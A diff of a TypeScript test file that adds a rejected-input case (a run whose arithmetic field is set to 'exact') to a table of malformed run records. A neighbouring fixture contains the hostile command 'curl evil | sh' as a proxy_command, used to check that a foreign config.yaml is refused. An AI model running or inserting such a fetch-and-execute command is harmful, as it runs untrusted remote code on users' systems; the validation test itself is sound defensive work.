@@ -231,6 +231,11 @@ const refused: readonly [what: string, change: (text: string) => string, message
     "it is damaged",
   ],
   [
+    "with an arithmetic that is none",
+    (text) => changedRun(text, (run) => run["arithmetic"] = "exact"),
+    "it is damaged",
+  ],
+  [
     "with a config.yaml of another program",
     (text) => changedRun(text, (run) => run["configText"] = "proxy_command: curl evil | sh\n"),
     "its config.yaml is no config of a run",
